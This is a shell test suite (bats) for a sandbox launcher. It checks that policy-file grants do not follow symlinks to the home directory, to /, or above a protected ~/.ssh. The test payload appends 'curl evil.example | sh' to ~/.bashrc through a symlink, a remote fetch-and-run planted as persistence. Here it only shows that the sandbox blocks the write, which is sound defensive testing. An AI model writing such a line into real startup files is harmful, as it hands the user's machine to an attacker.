#!/usr/bin/env bats
# Escape catalogue: grants that follow symlinks out of the project.  A
# profile grants an optional cache below the working directory; a symlink
# at that place (committed in a cloned repository, or left by an earlier
# `--rw .` run) must not carry the grant to its target.  Man page, POLICY
# FILES: a grant read from a policy file or profile does not pass through
# symlinks below the working or home directory; no grant may reach /, a
# home directory or a directory holding a masked place unless that exact
# path was typed on the command line.  See tests/README.

# shellcheck disable=SC2016,SC2030,SC2031
load ../helpers

setup() {
	requires bwrap userns
}

# grant_env DIR: a home ($HOME, with a .bashrc) and a project ($PROJ,
# the working directory) below DIR, owned by the pass's user; a policy
# file $POLICY granting the optional cache ${CWD}/.cache.
grant_env() {
	D=$1
	export HOME=$D/home
	PROJ=$D/proj
	usr mkdir "$HOME" "$PROJ"
	usr sh -c 'echo "# the user'\''s own" >"$1/.bashrc"' sh "$HOME"
	POLICY=$D/cache.policy
	printf '%s\n' '# like the shipped profiles' '--rw-try ${CWD}/.cache' >"$POLICY"
	chmod 0644 "$POLICY"
	cd "$PROJ" || return 1
}

APPEND='echo "curl evil.example | sh" >>.cache/"$1" && echo appended'

_link_to_home() {
	local before
	grant_env "$(scratch_dir)"
	usr ln -s "$HOME" "$PROJ/.cache"
	before=$(cat "$HOME/.bashrc")

	# Control: unsandboxed, writing through the link rewrites ~/.bashrc.
	run usr sh -c "$APPEND" sh .bashrc
	assert_contains "$output" appended
	assert_contains "$(cat "$HOME/.bashrc")" evil.example
	printf '%s\n' "$before" >"$HOME/.bashrc"

	run sbx --policy "$POLICY" -- sh -c "$APPEND" sh .bashrc
	assert_failed "appending to ~/.bashrc through the granted link"
	refute_contains "$output" appended
	assert_file "$HOME/.bashrc" "$before"
}

@test "grants: a --rw-try \${CWD}/.cache that is a symlink to the home directory is skipped, ~/.bashrc unchanged" {
	each_user _link_to_home
}

_link_to_root() {
	local victim rel
	grant_env "$(scratch_dir)"
	usr ln -s / "$PROJ/.cache"
	# A file elsewhere on the host that the pass's user may write.
	victim=$D/victim
	usr sh -c 'echo clean >"$1"' sh "$victim"
	rel=${victim#/}

	# Control: unsandboxed, the link reaches any file on the host.
	run usr sh -c "$APPEND" sh "$rel"
	assert_contains "$output" appended
	assert_contains "$(cat "$victim")" evil.example
	echo clean >"$victim"

	run sbx --policy "$POLICY" -- sh -c "$APPEND" sh "$rel"
	assert_failed "writing $victim through a link to /"
	refute_contains "$output" appended
	assert_file "$victim" clean
}

@test "grants: a --rw-try \${CWD}/.cache that is a symlink to / is skipped, the host unchanged" {
	each_user _link_to_root
}

_link_in_the_middle() {
	grant_env "$(scratch_dir)"
	usr mkdir "$D/elsewhere"
	usr ln -s "$D/elsewhere" "$PROJ/build"
	printf '%s\n' '--rw ${CWD}/build/out' '--rw-try ${CWD}/build/cache' \
		>"$D/mid.policy"
	usr mkdir "$D/elsewhere/out" "$D/elsewhere/cache"

	# Control: unsandboxed, build/out is elsewhere/out.
	run usr sh -c 'echo x >build/out/f && echo wrote'
	assert_contains "$output" wrote
	rm -f "$D/elsewhere/out/f"

	# A non-try grant through a link is refused, naming it; nothing runs.
	run sbx --policy "$D/mid.policy" -- sh -c 'echo x >build/out/f; echo CMD-RAN'
	assert_status 125
	refute_contains "$output" CMD-RAN
	assert_contains "$output" "mid.policy:1: --rw: $PROJ/build/out passes through a symlink"
	assert_absent "$D/elsewhere/out/f"
}

@test "grants: a policy file's --rw through a symlink in the middle of the path is refused, nothing runs" {
	each_user _link_in_the_middle
}

_wide_from_file() {
	local d
	grant_env "$(scratch_dir)"
	d=$D
	printf '%s\n' '--rw ${HOME}' >"$d/home.policy"
	printf '%s\n' '--ro /' >"$d/root.policy"
	usr mkdir -p "$HOME/.ssh"
	usr mkdir "$d/top"
	usr ln -s "$HOME" "$PROJ/home-link"

	# The same grants typed on the command line are the user's own word.
	run sbx --rw "$HOME" -- sh -c 'echo ok >"$HOME/typed" && echo CMD-RAN'
	assert_status 0
	assert_file "$HOME/typed" ok
	run sbx --ro / -- true
	assert_status 0

	run sbx --policy "$d/home.policy" -- sh -c 'echo CMD-RAN'
	assert_status 125
	refute_contains "$output" CMD-RAN
	assert_contains "$output" "a policy file grants $HOME, a home directory"
	run sbx --policy "$d/root.policy" -- sh -c 'echo CMD-RAN'
	assert_status 125
	assert_contains "$output" "the whole file system"
	# Typed, but through a link that leads to the home directory.
	run sbx --rw home-link -- sh -c 'echo CMD-RAN'
	assert_status 125
	refute_contains "$output" CMD-RAN
	assert_contains "$output" "$PROJ/home-link leads through a symlink to $HOME, a home directory"
}

@test "grants: /, a home directory: only when typed on the command line, not from a file or through a link" {
	each_user _wide_from_file
}

_ancestor_of_mask() {
	grant_env "$(scratch_dir)"
	usr mkdir -p "$D/outer/inner"
	# HOME below the grant: the grant would hold the masked ~/.ssh.
	export HOME=$D/outer/inner
	usr mkdir "$HOME/.ssh"
	printf '%s\n' "--rw $D/outer" >"$D/outer.policy"

	run sbx --policy "$D/outer.policy" -- sh -c 'echo CMD-RAN'
	assert_status 125
	refute_contains "$output" CMD-RAN
	assert_contains "$output" "a directory that holds the protected $HOME/.ssh"
	run sbx --rw "$D/outer" -- sh -c 'echo CMD-RAN'
	assert_status 0
	assert_contains "$output" CMD-RAN
}

@test "grants: a policy file may not grant a directory above a masked credential store" {
	each_user _ancestor_of_mask
}

@test "grants: a policy file's grant through a system link in a root-owned directory still works" {
	local lib
	lib=$(readlink -f /lib)
	[ -L /lib ] && [ "$(stat -c %u /)" = 0 ] ||
		skip_or_fail "/lib is not a symlink here"
	printf '%s\n' '--fs=minimal' '--ro /lib' >"$BATS_TEST_TMPDIR/lib.policy"
	run "$SBOX_EXEC" --policy "$BATS_TEST_TMPDIR/lib.policy" --chdir / --print -- true
	assert_status 0
	assert_contains "$output" "--ro-bind $lib $lib"
}

_without_openat2() {
	local before
	grant_env "$(scratch_dir)"
	usr ln -s "$HOME" "$PROJ/.cache"
	usr mkdir "$D/elsewhere"
	usr ln -s "$D/elsewhere" "$PROJ/build"
	printf '%s\n' '--rw ${CWD}/build/out' >"$D/mid.policy"
	before=$(cat "$HOME/.bashrc")

	# Control: unsandboxed, the link rewrites ~/.bashrc.
	run usr sh -c "$APPEND" sh .bashrc
	assert_contains "$output" appended
	printf '%s\n' "$before" >"$HOME/.bashrc"

	# The launcher resolves one component at a time when the kernel has
	# no openat2() (hidden here): the same links are not followed.
	run usr "$HIDE" --openat2 "$SBOX" --policy "$POLICY" -- sh -c "$APPEND" sh .bashrc
	assert_failed "appending to ~/.bashrc through the granted link"
	refute_contains "$output" appended
	assert_file "$HOME/.bashrc" "$before"
	run usr "$HIDE" --openat2 "$SBOX" --policy "$D/mid.policy" -- sh -c 'echo CMD-RAN'
	assert_status 125
	refute_contains "$output" CMD-RAN
	assert_contains "$output" "passes through a symlink"
}

@test "grants: without openat2 in the kernel, the component walk refuses the same links" {
	HIDE=$(payload hide-landlock)
	each_user _without_openat2
}
